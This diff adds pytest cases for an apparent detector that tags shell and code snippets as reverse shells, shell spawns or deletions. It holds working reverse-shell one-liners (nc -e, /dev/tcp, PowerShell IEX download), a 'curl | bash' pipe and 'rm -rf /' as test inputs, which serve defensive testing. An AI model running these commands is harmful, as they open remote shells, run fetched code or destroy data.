@@ -62,3 +62,29 @@ def test_code_and_language_are_on_the_node() -> None:
     assert (node.language, node.inline_code) == ("python", "print(1)")
     assert running("curl x | bash")[0].pipes_into == "bash"
     assert running('bash -c "$(curl x)"')[0].pipes_into == "bash"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "require('child_process').exec('nc -e sh 192.0.2.7 1')",
+        "IEX(IWR https://x.example/a.ps1); Invoke-ConPtyShell 192.0.2.7 1",
+        "import os; os.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.7/1 0>&1'\")",
+    ],
+)
+def test_code_that_is_no_shell_text(command: str) -> None:
+    assert "reverse-shell" in facts_of(command)
+
+
+def test_an_unfinished_mention_is_no_code() -> None:
+    assert "deletes-root" not in facts_of("git commit -m \"don't system('rm -rf /')")
+
+
+def test_a_shell_bent_back_to_the_terminal() -> None:
+    assert "spawns-shell" in facts_of("sh 1>&0 2>&0")
+    assert "spawns-shell" not in facts_of("sh build.sh 2>&1")
+
+
+def test_deleting_by_a_relative_path_in_code() -> None:
+    assert "deletes-tree" in facts_of("python3 -c \"shutil.rmtree('src')\"")
+    assert "deletes-tree" not in facts_of("python3 -c \"shutil.rmtree('build')\"")
